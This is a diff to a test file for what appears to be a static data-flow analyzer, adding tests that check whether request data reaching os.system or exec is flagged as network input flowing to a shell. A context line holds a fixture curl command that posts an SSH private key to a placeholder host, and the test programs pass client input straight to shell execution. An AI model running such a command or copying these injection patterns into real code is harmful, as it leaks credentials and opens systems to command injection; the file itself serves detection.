@@ -201,6 +201,38 @@ const expandPy = (program: string): string =>
       "f\"curl -d @{'/home/u/.ssh/id_rsa'} {'https://h.test/x'}\"",
     )}\n`;
 
+describe('what a client sent', () => {
+  const given = (path: string, program: string) =>
+    run({ [path]: program })
+      .flows()
+      .map(({ from, to }) => `${from.join('+')} -> ${to}`);
+  it('is told by the type a parameter is declared with', () => {
+    expect(
+      given(
+        'a.py',
+        'import os\nfrom aiohttp import web\nasync def go(request: web.Request):\n    os.system((await request.json())["x"])\n',
+      ),
+    ).toContain('net+request -> shell');
+    expect(
+      given(
+        'a.ts',
+        "import { exec } from 'child_process';\nexport const go = (req: express.Request) => exec(req.body.cmd);\n",
+      ),
+    ).toContain('net+request -> shell');
+  });
+  it('is none where something else is declared', () => {
+    expect(
+      given('a.py', 'import os\ndef go(request: RequestOptions):\n    os.system(request.line)\n').join(),
+    ).not.toContain('request');
+    expect(
+      given(
+        'a.ts',
+        "import { exec } from 'child_process';\nexport const go = (o: RequestInit) => exec(o.cmd);\n",
+      ).join(),
+    ).not.toContain('request');
+  });
+});
+
 describe('several files', () => {
   it('a thread of one takes in what another puts there', () => {
     const { flows } = run({
